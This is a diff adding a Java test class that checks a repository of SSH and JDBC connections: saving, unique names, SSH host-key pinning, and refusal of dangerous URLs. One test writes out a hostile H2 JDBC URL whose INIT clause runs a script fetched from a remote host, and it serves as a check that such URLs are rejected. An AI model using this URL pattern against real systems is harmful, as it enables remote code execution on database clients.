@@ -1,0 +1,74 @@
+package dev.runbench.command;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+import dev.runbench.command.Connection.Environment;
+import dev.runbench.command.Connection.Jdbc;
+import dev.runbench.command.Connection.Ssh;
+import dev.runbench.command.Connection.SshAuth;
+import dev.runbench.store.PgTest;
+import java.util.Optional;
+import org.junit.jupiter.api.Test;
+
+class ConnectionRepositoryPgTest extends PgTest {
+
+    private static final Ssh SSH = new Ssh(
+            0,
+            "db-1",
+            "10.0.0.1",
+            22,
+            "deploy",
+            SshAuth.KEY_FILE,
+            Optional.of("/k"),
+            Optional.empty(),
+            Environment.PRODUCTION);
+    private static final Jdbc JDBC =
+            new Jdbc(0, "orders", "jdbc:postgresql://h:5432/orders", "ro", true, Environment.STAGING);
+
+    @Test
+    void connectionsComeBackAsTheyWereSavedSortedByName() {
+        var repository = new ConnectionRepository(database);
+        Connection orders = repository.save(JDBC);
+        Connection db1 = repository.save(SSH);
+        assertThat(db1.id()).isPositive();
+        assertThat(repository.all()).containsExactly(db1, orders);
+        assertThat(repository.byName("orders")).contains(orders);
+        repository.delete(orders.id());
+        assertThat(repository.byId(orders.id())).isEmpty();
+    }
+
+    @Test
+    void namesAreUnique() {
+        var repository = new ConnectionRepository(database);
+        repository.save(SSH);
+        assertThatThrownBy(() -> repository.save(SSH)).hasMessageContaining("db-1 already");
+    }
+
+    @Test
+    void aPinnedHostKeyStaysUntilTheHostChanges() {
+        var repository = new ConnectionRepository(database);
+        Ssh saved = (Ssh) repository.save(SSH);
+        repository.pin(saved, "ssh-ed25519 AAAA");
+        Ssh pinned = (Ssh) repository.byId(saved.id()).orElseThrow();
+        assertThat(pinned.hostKey()).contains("ssh-ed25519 AAAA");
+        assertThatThrownBy(() -> repository.pin(saved, "ssh-ed25519 BBBB")).hasMessageContaining("changed meanwhile");
+
+        Ssh renamed = with(pinned, "db-one", "10.0.0.1");
+        assertThat(((Ssh) repository.save(renamed)).hostKey()).isPresent();
+        assertThat(((Ssh) repository.save(with(pinned, "db-one", "10.0.0.2"))).hostKey())
+                .isEmpty();
+    }
+
+    @Test
+    void dangerousUrlsAreNotSaved() {
+        var repository = new ConnectionRepository(database);
+        Jdbc evil = new Jdbc(0, "x", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://x'", "", false, Environment.PRACTICE);
+        assertThatThrownBy(() -> repository.save(evil)).hasMessageContaining("init");
+        assertThat(repository.all()).isEmpty();
+    }
+
+    private static Ssh with(Ssh c, String name, String host) {
+        return new Ssh(c.id(), name, host, c.port(), c.account(), c.auth(), c.keyFile(), c.hostKey(), c.environment());
+    }
+}
